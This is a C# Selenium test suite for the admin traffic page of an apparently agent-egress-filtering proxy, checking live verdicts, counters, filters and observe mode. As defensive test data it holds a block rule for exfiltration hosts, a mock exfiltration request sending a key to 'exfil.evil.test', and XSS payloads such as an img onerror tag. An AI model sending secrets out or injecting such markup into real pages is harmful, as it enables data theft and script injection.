using System.Net;
using System.Net.Sockets;
using System.Text;
using OpenQA.Selenium;
using Outcall.Tests.Proxy;

namespace Outcall.Tests.Admin;

/// <summary>
/// The live traffic page in a real browser (issue 15, S010-FR-008, S010-FR-010): headless Chromium opens it from a
/// real node with the admin token in the URL fragment, and verdicts of real proxied requests appear without a
/// reload, with their explanation a click away.
/// </summary>
public sealed class AdminPageBrowserSpecs(HeadlessChromium browser) : IClassFixture<HeadlessChromium>, IAsyncLifetime
{
    private const string Rules = """
        version: "1"
        rules:
          - id: allow-upstream
            description: "The test's upstream"
            action: allow
            egress: { allow_private_ips: true }
            condition: network.hostname == "allowed.test"
          - id: block-evil
            description: "Known exfiltration sites"
            action: block
            condition: network.hostname.endsWith(".evil.test")
        """;

    private HttpUpstream _upstream = null!;
    private ProxyHarness _proxy = null!;

    private IWebDriver Page => browser.Driver;

    public async Task InitializeAsync()
    {
        _upstream = await HttpUpstream.StartAsync();
        _proxy = await ProxyHarness.StartAsync(Rules,
            $"{ProxyHarness.WithAdmin}\noutcall.admin.token = \"{AdminAccessSpecs.Token}\"\noutcall.identity.agents {{ builder = [\"127.0.0.0/8\"] }}",
            new StaticResolver().Map("allowed.test", IPAddress.Loopback));
    }

    public async Task DisposeAsync()
    {
        await _proxy.DisposeAsync();
        await _upstream.DisposeAsync();
    }

    /// <summary>Opens the page as an operator would on a shared host, and waits until its event stream is live.</summary>
    private void OpenPage()
    {
        Page.Navigate().GoToUrl($"{_proxy.AdminUri}#token={AdminAccessSpecs.Token}");
        browser.WaitFor("its event stream live", d => d.FindElement(By.Id("stream-state")).Text == "live" ? "live" : null);
    }

    private IWebElement RowFor(string hostPort, string decision) =>
        browser.WaitFor($"a {decision} row for {hostPort}", d => d.FindElements(By.CssSelector($"#event-rows tr[data-decision='{decision}']"))
            .FirstOrDefault(row => row.FindElement(By.CssSelector("td.hostport")).Text == hostPort));

    [Fact]
    public async Task A_blocked_and_an_allowed_request_appear_live_and_the_block_opens_with_its_explanation()
    {
        OpenPage();
        Assert.DoesNotContain(AdminAccessSpecs.Token, Page.Url);
        Assert.Empty(Page.FindElements(By.CssSelector("#event-rows tr")));

        using var client = _proxy.CreateClient();
        using (var blocked = await client.GetAsync("http://exfil.evil.test/upload?key=s3cret")) Assert.Equal(HttpStatusCode.Forbidden, blocked.StatusCode);
        using (var allowed = await client.GetAsync($"http://allowed.test:{_upstream.Port}/hello")) Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);

        var block = RowFor("exfil.evil.test:80", "BLOCK");
        Assert.Equal(["builder", "BLOCK", "GET", "/upload", "block-evil", "403"],
            new[] { "agent", "decision", "method", "path", "rule" }.Select(c => block.FindElement(By.CssSelector($"td.{c}")).Text)
                .Append(block.FindElements(By.CssSelector("td"))[7].Text));
        var allow = RowFor($"allowed.test:{_upstream.Port}", "ALLOW");
        browser.WaitFor("the allowed request's status 200", _ => allow.FindElements(By.CssSelector("td"))[7].Text == "200" ? "200" : null);
        Assert.Equal("allow-upstream", allow.FindElement(By.CssSelector("td.rule")).Text);
        Assert.DoesNotContain("s3cret", Page.FindElement(By.TagName("body")).Text);

        block.Click();
        var summary = browser.WaitFor("the block's explanation", d => d.FindElement(By.Id("detail-summary")) is { Text.Length: > 0 } s ? s.Text : null);
        Assert.Contains("block-evil", summary);
        Assert.StartsWith("block-evil · block · rules.yaml:", Page.FindElement(By.Id("detail-rule")).Text);
        Assert.Contains("network.hostname.endsWith(\".evil.test\")", Page.FindElement(By.CssSelector("#detail .condition")).Text);
        Assert.Contains("allow-upstream", Page.FindElement(By.Id("detail-steps")).Text);
    }

    [Fact]
    public async Task Counters_filters_rules_and_open_tunnels_follow_the_traffic()
    {
        OpenPage();
        using var client = _proxy.CreateClient();
        for (var i = 0; i < 3; i++) (await client.GetAsync($"http://paste.evil.test/raw/{i}")).Dispose();
        (await client.GetAsync("http://cdn.evil.test/x.js")).Dispose();
        (await client.GetAsync($"http://allowed.test:{_upstream.Port}/bytes/100")).Dispose();
        using var tunnel = await OpenTunnelAsync($"allowed.test:{_upstream.Port}");

        browser.WaitFor("builder's counters", d => d.FindElement(By.CssSelector("#agent-rows tr[data-agent='builder'] td.blocked")).Text == "4"
            && d.FindElement(By.CssSelector("#agent-rows tr[data-agent='builder'] td.allowed")).Text == "2" ? "counted" : null);
        var top = Page.FindElements(By.CssSelector("#blocked-hosts li")).Select(li => li.GetAttribute("data-host") + "=" + li.FindElement(By.CssSelector(".count")).Text);
        Assert.Equal(["paste.evil.test:80=3", "cdn.evil.test:80=1"], top);
        browser.WaitFor("one open tunnel", d => d.FindElement(By.Id("stat-tunnels")).Text == "1" ? "1" : null);
        Assert.Equal(_proxy.Endpoint.ToString(), Page.FindElement(By.Id("stat-listen")).Text);

        Page.FindElement(By.Id("filter-host")).SendKeys("paste");
        browser.WaitFor("only the paste rows", d => d.FindElements(By.CssSelector("#event-rows tr")).Count(r => r.Displayed) == 3 ? "3" : null);
        Page.FindElement(By.Id("filter-host")).Clear();
        Page.FindElement(By.CssSelector("#filter-decision option[value='ALLOW']")).Click();
        Assert.All(Page.FindElements(By.CssSelector("#event-rows tr")).Where(r => r.Displayed), r => Assert.Equal("ALLOW", r.GetAttribute("data-decision")));

        Assert.Equal(["allow-upstream", "block-evil"], Page.FindElements(By.CssSelector("#rule-rows tr")).Select(r => r.GetAttribute("data-rule")));
        browser.WaitFor("each rule's hits", d => d.FindElements(By.CssSelector("#rule-rows td.hits")).Select(td => td.Text).SequenceEqual(["2", "4"]) ? "hits" : null);
        Assert.False(Page.FindElement(By.Id("cluster")).Displayed);
    }

    [Theory]
    [InlineData("/&lt;b&gt;x&lt;/b&gt;'&amp;")]
    [InlineData("/%3Cimg%20src=x%20onerror=alert(1)%3E")]
    public async Task A_hostile_path_is_shown_as_its_text_and_never_becomes_markup(string path)
    {
        OpenPage();
        var answer = await _proxy.SendRawAsync($"GET http://markup.evil.test{path} HTTP/1.1\r\nHost: markup.evil.test\r\nConnection: close\r\n\r\n");
        Assert.StartsWith("HTTP/1.1 403", answer);
        var row = browser.WaitFor("the hostile row", d => d.FindElements(By.CssSelector("#event-rows td.path")).FirstOrDefault(td => td.Text == path));
        Assert.NotNull(row);
        Assert.Empty(Page.FindElements(By.CssSelector("#event-rows img, #event-rows b")));
    }

    [Fact]
    public void Without_the_token_the_page_says_which_setting_it_needs()
    {
        // A fresh tab state: the token kept from earlier specs is dropped.
        Page.Navigate().GoToUrl(_proxy.AdminUri.ToString());
        ((IJavaScriptExecutor)Page).ExecuteScript("sessionStorage.clear()");
        Page.Navigate().Refresh();
        var notice = browser.WaitFor("the token notice", d => d.FindElement(By.Id("notice")) is { Displayed: true } n ? n.Text : null);
        Assert.Contains("outcall.admin.token", notice);
    }

    [Fact]
    public async Task In_observe_mode_what_the_rules_would_block_shows_as_would_block_and_is_counted_apart()
    {
        await using var observing = await ProxyHarness.StartAsync(Rules, $"{ProxyHarness.WithAdmin}\noutcall.rules.mode = observe");
        Page.Navigate().GoToUrl(observing.AdminUri.ToString());
        browser.WaitFor("its event stream live", d => d.FindElement(By.Id("stream-state")).Text == "live" ? "live" : null);
        using (var client = observing.CreateClient()) (await client.GetAsync("http://watched.evil.test/")).Dispose();
        var row = RowFor("watched.evil.test:80", "WOULD_BLOCK");
        Assert.Equal("WOULD BLOCK", row.FindElement(By.CssSelector("td.decision")).Text);
        browser.WaitFor("the would-block count", d => d.FindElement(By.CssSelector("#agent-rows td.would")) is { Displayed: true, Text: "1" } ? "1" : null);
        Assert.Equal("watched.evil.test:80", Page.FindElement(By.CssSelector("#blocked-hosts li")).GetAttribute("data-host"));
    }

    [Fact]
    public async Task After_the_node_restarts_the_page_reconnects_and_shows_the_new_node_events_in_place_of_the_old()
    {
        var first = await ProxyHarness.StartAsync(Rules, ProxyHarness.WithAdmin);
        var admin = first.Node.AdminEndpoint!;
        Page.Navigate().GoToUrl(first.AdminUri.ToString());
        browser.WaitFor("its event stream live", d => d.FindElement(By.Id("stream-state")).Text == "live" ? "live" : null);
        using (var client = first.CreateClient())
        {
            (await client.GetAsync("http://before.evil.test/")).Dispose();
            (await client.GetAsync("http://later.evil.test/")).Dispose();
        }
        RowFor("later.evil.test:80", "BLOCK");
        await first.DisposeAsync();

        await using var second = await ProxyHarness.StartAsync(Rules, $"outcall.admin.listen = \"{admin}\"");
        using (var client = second.CreateClient()) (await client.GetAsync("http://after.evil.test/")).Dispose();
        RowFor("after.evil.test:80", "BLOCK");
        // The new node's event 1 is not the old node's event 1, and the old node's event 2 is gone with it.
        Assert.Equal(["after.evil.test:80"], Page.FindElements(By.CssSelector("#event-rows td.hostport")).Select(td => td.Text));
    }

    private async Task<Socket> OpenTunnelAsync(string authority)
    {
        var socket = await _proxy.ConnectRawAsync();
        await socket.SendAsync(Encoding.ASCII.GetBytes($"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n"), SocketFlags.None);
        var buffer = new byte[1024];
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        var read = await socket.ReceiveAsync(buffer, SocketFlags.None, deadline.Token);
        Assert.StartsWith("HTTP/1.1 200", Encoding.ASCII.GetString(buffer, 0, read));
        return socket;
    }
}
